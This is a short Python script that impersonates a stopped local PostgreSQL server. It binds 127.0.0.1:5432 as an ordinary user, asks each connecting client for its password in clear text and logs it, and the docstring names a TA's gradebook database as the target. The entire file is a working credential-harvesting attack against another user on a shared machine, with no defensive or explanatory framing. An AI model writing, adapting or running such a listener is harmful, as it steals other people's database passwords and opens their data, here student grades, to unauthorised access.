"""Run as uid 65000: where the TA's gradebook URL names a PostgreSQL on this machine (localhost:5432) that is not
running (stopped, restarting, not yet started), listen there and ask each client for its password in clear text
(AuthenticationCleartextPassword): libpq sends it unless the URL sets require_auth or channel_binding."""
import os, socket, struct, time
log = open(os.environ.get("LOG", "/dev/stdout"), "a", buffering=1)
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 5432)); s.listen(8); s.settimeout(1)
log.write(f"{time.strftime('%T')} uid {os.getuid()} listens on 127.0.0.1:5432\n")
end = time.time() + float(os.environ.get("SECONDS_LEFT", "120"))
while time.time() < end:
    try:
        c, _ = s.accept()
    except socket.timeout:
        continue
    c.settimeout(3)
    try:
        n = struct.unpack("!i", c.recv(4))[0]; body = c.recv(n - 4)
        if struct.unpack("!i", body[:4])[0] == 80877103:  # SSLRequest: no
            c.sendall(b"N"); n = struct.unpack("!i", c.recv(4))[0]; body = c.recv(n - 4)
        params = body[4:].split(b"\0")
        log.write(f"{time.strftime('%T')} startup from the client: {params[:8]}\n")
        c.sendall(b"R" + struct.pack("!ii", 8, 3))  # AuthenticationCleartextPassword
        kind = c.recv(1); n = struct.unpack("!i", c.recv(4))[0]; pw = c.recv(n - 4)
        log.write(f"{time.strftime('%T')} password message {kind!r}: {pw.rstrip(bytes(1))!r}\n")
        err = b"SFATAL\0C28P01\0Mpassword authentication failed\0\0"
        c.sendall(b"E" + struct.pack("!i", len(err) + 4) + err)
    except Exception as e:
        log.write(f"error {e!r}\n")
    c.close()
